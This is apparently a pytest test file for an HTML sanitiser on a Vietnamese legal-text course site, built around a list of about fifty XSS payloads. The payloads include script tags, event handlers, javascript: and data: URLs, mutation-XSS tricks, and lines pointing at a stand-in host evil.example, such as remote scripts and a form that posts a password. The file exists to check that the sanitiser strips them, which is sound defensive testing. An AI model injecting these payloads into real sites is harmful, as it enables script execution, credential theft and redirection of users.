"""The one allow-list: nothing that runs, frames, posts or covers the page gets through, whatever dress it wears."""

import re

import pytest

from courses.cleaning import clean

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img/src/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="blob:https://evil.example/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/\\evil.example/">x</a>',
    '<a href="\\\\evil.example/">x</a>',
    '<a href="/van-ban/luat-2022/5/" onclick="alert(1)">x</a>',
    '<a href="/van-ban/x&quot; onmouseover=&quot;alert(1)/">x</a>',
    "<a href='/van-ban/x/' style='position:fixed;inset:0'>x</a>",
    '<a target="_blank" ping="//evil.example" download href="https://example.org">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p id="noi-dung" name="csrfmiddlewaretoken" class="btn">x</p>',
    '<p onmouseover="alert(1)" data-place="/x" contenteditable autofocus tabindex=1>x</p>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<form action="//evil.example"><input name="password"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example/">',
    '<link rel=stylesheet href="//evil.example/x.css"><style>@import "//evil.example/x.css"</style>',
    '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<b/onclick=alert(1)>x</b>",
    "<p>\ud7ff\u2028<script\x0c>alert(1)</script\x0c></p>",
]
TAG = re.compile(r"<(/?)([a-zA-Z][^\s/>]*)([^>]*)>")
ALLOWED = {"p", "br", "b", "strong", "i", "em", "ul", "ol", "li", "a"}
SAFE_ADDRESS = re.compile(r"(https?://|mailto:|tel:|/(?![/\\])|#|\?|\./|[a-z0-9-]+/)", re.I)


@pytest.mark.parametrize("payload", HOSTILE)
def test_nothing_hostile_gets_through(payload):
    cleaned = clean(payload)
    for _, name, attributes in TAG.findall(cleaned):
        assert name in ALLOWED
        for attribute, value in re.findall(r'([^\s="]+)="([^"]*)"', attributes):
            assert attribute in {"href", "class"}
            assert attribute != "class" or (name == "a" and value == "cite")
            assert attribute != "href" or SAFE_ADDRESS.match(value)
        assert not re.sub(r'[^\s="]+="[^"]*"', "", attributes).strip(" /")


@pytest.mark.parametrize("payload", HOSTILE)
def test_cleaning_twice_is_as_good_as_once(payload):
    once = clean(payload)
    assert clean(once) == once


def test_what_editors_write_stays():
    written = (
        "<p>Điều <b>5</b> và <i>khoản</i> <strong>2</strong><br>"
        '<a href="https://vanban.chinhphu.vn/">nguồn</a></p><ul><li>một</li></ul>'
    )
    assert clean(written) == written


def test_a_link_to_a_provision_looks_like_a_citation():
    assert (
        clean('<a href="/van-ban/luat-2022/5.2.c/">Điều 5</a>')
        == '<a class="cite" href="/van-ban/luat-2022/5.2.c/">Điều 5</a>'
    )


def test_a_link_elsewhere_does_not_look_like_a_citation():
    assert "cite" not in clean('<a class="cite" href="https://example.org/van-ban/luat-2022/">x</a>')


def test_signs_are_escaped_and_letters_are_not():
    assert clean("5 < 7 & “Đảng”") == "5 &lt; 7 &amp; “Đảng”"
